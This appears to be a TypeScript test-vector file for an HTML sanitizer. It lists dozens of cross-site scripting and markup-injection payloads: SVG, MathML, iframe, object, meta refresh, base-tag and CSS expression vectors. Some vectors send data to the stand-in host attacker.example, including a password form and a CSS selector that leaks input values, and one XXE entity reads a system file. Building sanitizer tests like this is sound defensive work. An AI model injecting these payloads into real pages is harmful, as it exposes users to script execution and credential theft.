/** Foreign content, embedded documents, style, and elements that change the page around them. */
import { group } from './vector.ts';

const svg = group('markup', 'SVG', {
  load: '<svg onload="window.pwned=1">',
  'load with a slash': '<svg/onload=window.pwned=1>',
  'script inside': '<svg><script>window.pwned=1</script></svg>',
  'script with entities': '<svg><script>&#119;indow.pwned=1</script></svg>',
  'script with href': '<svg><script href="data:text/javascript,window.pwned=1"/></svg>',
  'animated link':
    '<svg><a><animate attributeName=href values="javascript:window.pwned=1"/><text y=20>x</text></a></svg>',
  'set a handler': '<svg><set attributeName=onmouseover to="window.pwned=1"/></svg>',
  'animation begin': '<svg><animate onbegin="window.pwned=1" attributeName=x dur=1s></svg>',
  'xlink link': '<svg><a xlink:href="javascript:window.pwned=1"><text y=20>click</text></a></svg>',
  'use of a data document':
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=\'http://www.w3.org/2000/svg\'><script>window.pwned=1</script></svg>#x"/></svg>',
  'foreign object': '<svg><foreignObject><img src=x onerror="window.pwned=1"></foreignObject></svg>',
  'image in it': '<svg><image href=x onerror="window.pwned=1"/></svg>',
  'described by a script': '<svg><desc><script>window.pwned=1</script></desc></svg>',
});

const mathml = group('markup', 'MathML', {
  'link with a script': '<math><mi href="javascript:window.pwned=1">x</mi></math>',
  'xlink with a script': '<math xlink:href="javascript:window.pwned=1">click</math>',
  'status line':
    '<math><maction actiontype="statusline#javascript:window.pwned=1">x<mtext>y</mtext></maction></math>',
  'annotation with HTML':
    '<math><annotation-xml encoding="text/html"><img src=x onerror="window.pwned=1"></annotation-xml></math>',
  'semantics with HTML':
    '<math><semantics><mtext><img src=x onerror="window.pwned=1"></mtext></semantics></math>',
});

const documents = group('markup', 'embedded document', {
  'frame with a script address': '<iframe src="javascript:parent.pwned=1"></iframe>',
  'frame with its own text': '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>',
  'frame text in entities': '<iframe srcdoc="&lt;script&gt;parent.pwned=1&lt;/script&gt;"></iframe>',
  'frame load': '<iframe onload="window.pwned=1"></iframe>',
  'frame of another host': '<iframe src="https://attacker.example/"></iframe>',
  'fenced frame': '<fencedframe src="https://attacker.example/"></fencedframe>',
  'object with data': '<object data="javascript:parent.pwned=1"></object>',
  'object of HTML': '<object data="data:text/html,<script>parent.pwned=1</script>"></object>',
  'object error': '<object data=x onerror="window.pwned=1"></object>',
  'embed with a script': '<embed src="javascript:parent.pwned=1">',
  'embed of SVG':
    "<embed src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.pwned=1'/>\">",
  applet: '<applet code=x archive="//attacker.example/x.jar"></applet>',
  portal: '<portal src="https://attacker.example/"></portal>',
  template: '<template><img src=x onerror="window.pwned=1"></template>',
  'declarative shadow root':
    '<div><template shadowrootmode=open><img src=x onerror="window.pwned=1"></template></div>',
  noscript: '<noscript><img src=x onerror="window.pwned=1"></noscript>',
  noembed: '<noembed><img src=x onerror="window.pwned=1"></noembed>',
});

const page = group('markup', 'page-changing element', {
  'refresh to a script': '<meta http-equiv=refresh content="0;url=javascript:window.pwned=1">',
  'refresh to another host': '<meta http-equiv=refresh content="0;url=https://attacker.example/">',
  'policy by meta': '<meta http-equiv=Content-Security-Policy content="script-src *">',
  'cookie by meta': '<meta http-equiv=set-cookie content="sid=1">',
  'referrer by meta': '<meta name=referrer content=unsafe-url>',
  'base address': '<base href="https://attacker.example/">',
  'base with a script': '<base href="javascript:window.pwned=1//"><a href=.>go</a>',
  'base target': '<base target=_parent>',
  'style sheet of another host': '<link rel=stylesheet href="https://attacker.example/x.css">',
  preload: '<link rel=preload as=image href="https://attacker.example/seen">',
  'DNS prefetch': '<link rel=dns-prefetch href="//reader.attacker.example">',
  manifest: '<link rel=manifest href="data:application/json,{}">',
  'form to another host':
    '<form action="https://attacker.example/"><input name=password><button>Sign in</button></form>',
  'form with a script': '<form action="javascript:window.pwned=1"><button autofocus>Send</button></form>',
  'button that redirects a form':
    '<button form=reply formaction="javascript:window.pwned=1">Publish</button>',
  'form around the page':
    '</form><form action=/accounts/sign-out method=post><button>Read on</button></form>',
  'covering layer': '<div style="position:fixed;inset:0;z-index:9999;background:white">Sign in again</div>',
  'closing the page': '</div></main></body></html><h1>The end</h1>',
  'open comment': 'text <!-- everything after this',
  'plain text element': '<plaintext>everything after this',
  'open text area': '<textarea>everything after this',
  'open title': '<title>everything after this',
  'XML island': '<xml><i><b>&lt;img src=1 onerror=window.pwned=1&gt;</b></i></xml>',
  'processing instruction': '<?xml-stylesheet href="javascript:window.pwned=1"?>',
  'XML entity': '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]><x>&e;</x>',
  'character data section': '<![CDATA[<img src=x onerror="window.pwned=1">]]>',
});

const style = group('markup', 'CSS', {
  expression: '<p style="width:expression(window.pwned=1)">x</p>',
  'script in a background': '<p style="background:url(javascript:window.pwned=1)">x</p>',
  'remote background': '<p style="background:url(https://attacker.example/seen)">x</p>',
  'escaped expression': '<p style="wid\\74 h:e\\78 pression(window.pwned=1)">x</p>',
  behaviour: '<p style="behavior:url(#default#time2)" onbegin="window.pwned=1">x</p>',
  binding: '<p style="-moz-binding:url(data:text/xml,x)">x</p>',
  'style element that imports': '<style>@import "https://attacker.example/x.css";</style>',
  'style element that reads': '<style>input[value^="a"]{background:url(https://attacker.example/a)}</style>',
  'style element closed early': '<style>p{}</style><img src=x onerror="window.pwned=1"><style></style>',
  'remote font': '<style>@font-face{font-family:x;src:url(//attacker.example/f)}</style>',
  'class of the page': '<p class="visually-hidden skip-link button danger">x</p>',
});

/** SVG, MathML, embedded documents, page-changing elements and style. */
export const embedded = [...svg, ...mathml, ...documents, ...page, ...style];
